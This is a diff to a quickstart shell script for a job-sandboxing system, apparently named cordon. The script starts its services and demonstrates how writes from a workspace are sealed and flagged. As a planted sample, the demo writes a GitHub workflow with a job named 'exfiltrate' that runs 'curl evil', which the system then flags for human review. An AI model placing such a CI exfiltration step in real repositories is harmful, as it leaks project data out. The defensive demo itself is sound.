@@ -65,6 +65,11 @@ status() {
 case "${1:-start}" in
 stop)
 	say "stopping the services"
+	# The example's workspace holds a tmpfs mount: remove it first.
+	if running hatch && [ -f "$var/broker/keys/launcher.key" ]; then
+		curl -s -X DELETE -H "Authorization: Bearer $(cat "$var/broker/keys/launcher.key")" \
+			http://127.0.0.1:7703/v1/workspaces/quickstart >/dev/null || true
+	fi
 	for svc in $services; do stop_one "$svc"; done
 	exit 0
 	;;
@@ -89,16 +94,22 @@ cmake --build "$build" -j"$(nproc)" 2>&1 |
 
 say "3/4 starting the services on loopback (state and logs under ./var/)"
 mkdir -p "$var/log"
+# The hatch copies inputs only from where an operator says, and answers
+# only the launcher's key (the broker writes it on its first start).
+cat >"$var/hatch.json" <<JSON
+{"input_roots": ["$top/deploy/examples"],
+ "launcher_key_file": "$var/broker/keys/launcher.key"}
+JSON
 for svc in $services; do
 	stop_one "$svc"
 	: >"$var/log/$svc.log"
+	args=(--listen "127.0.0.1:${port[$svc]}")
+	[ "$svc" = hatch ] && args+=(--config "$var/hatch.json")
 	# Each service keeps its state in ./var/<service> by default.
-	(cd "$top" && exec setsid "$top/$build/bin/cordon-$svc" \
-		--listen "127.0.0.1:${port[$svc]}" \
+	(cd "$top" && exec setsid "$top/$build/bin/cordon-$svc" "${args[@]}" \
 		</dev/null >>"$var/log/$svc.log" 2>&1) &
 	echo $! >"$(pidfile "$svc")"
-done
-for svc in $services; do
+	# One at a time: the hatch needs the key the broker writes.
 	for _ in $(seq 1 100); do
 		health "$svc" >/dev/null && break
 		running "$svc" || break
@@ -152,6 +163,28 @@ show "an operator revokes the job: $(field tokens_revoked <<<"$out") token(s) re
 show "the same token replayed: active=$(curl -s -X POST -H "$V" -d "{\"token\": \"$token\"}" $B/v1/introspect | field active)"
 show "the audit chain verifies: ok=$(curl -s -H "$A" "$B/v1/audit?verify=1" | field ok)"
 show "the token's value is in no file the broker wrote: $(grep -rlF "$token" "$var" 2>/dev/null | wc -l) files"
+
+echo
+echo "  the return path: the hatch copies an input in and seals what was written"
+H=http://127.0.0.1:7703
+curl -s -X DELETE -H "$L" $H/v1/workspaces/quickstart >/dev/null
+out=$(curl -s -X POST -H "$L" $H/v1/workspaces -d "{\"job\": \"quickstart\",
+	\"inputs\": [{\"src\": \"$top/deploy/examples/repo\", \"dst\": \"repo\"}], \"disk_mb\": 16}")
+upper=$(field upper <<<"$out")
+show "copied deploy/examples/repo in; the job's writes will land on a 16 MB tmpfs"
+# Standing in for the job until the launcher lands: writes in the upper layer.
+mkdir -p "$upper/repo/src" "$upper/repo/.github/workflows"
+printf 'def total(invoices):\n    return round(sum(i["amount"] for i in invoices), 2)\n' \
+	>"$upper/repo/src/report.py"
+printf 'on: push\njobs: {exfiltrate: {runs-on: ubuntu-latest, steps: [{run: "curl evil"}]}}\n' \
+	>"$upper/repo/.github/workflows/ci.yml"
+report=$(curl -s -X POST -H "$L" $H/v1/workspaces/quickstart/seal)
+show "the job edited src/report.py and wrote a CI workflow; sealed:"
+show "  verdict: $(field verdict <<<"$report")"
+sed 's/},{/}\n{/g' <<<"$report" | sed -n 's/.*"path":"\([^"]*\)","flag":"\([^"]*\)".*/      flag \2: \1/p'
+curl -s -H "$L" $H/v1/workspaces/quickstart/patch >"$var/quickstart.patch"
+show "the patch ($(wc -l <"$var/quickstart.patch") lines, ./var/quickstart.patch), for a person to read:"
+sed -n '1,24p' "$var/quickstart.patch" | sed 's/^/      /'
 echo
 for svc in $services; do
 	printf '  %-8s /healthz  %s\n' "$svc" "$(health "$svc")"
@@ -163,6 +196,7 @@ cat <<EOF
 
 cordon is running.
   logs:   ./var/log/{broker,proxy,hatch}.log (JSON lines)
+  patch:  ./var/quickstart.patch (how to apply one safely: docs/return-path.md)
   state:  ./var/{broker,proxy,hatch}/
   stop:   ./deploy/quickstart.sh stop
   tests:  ./tests/run
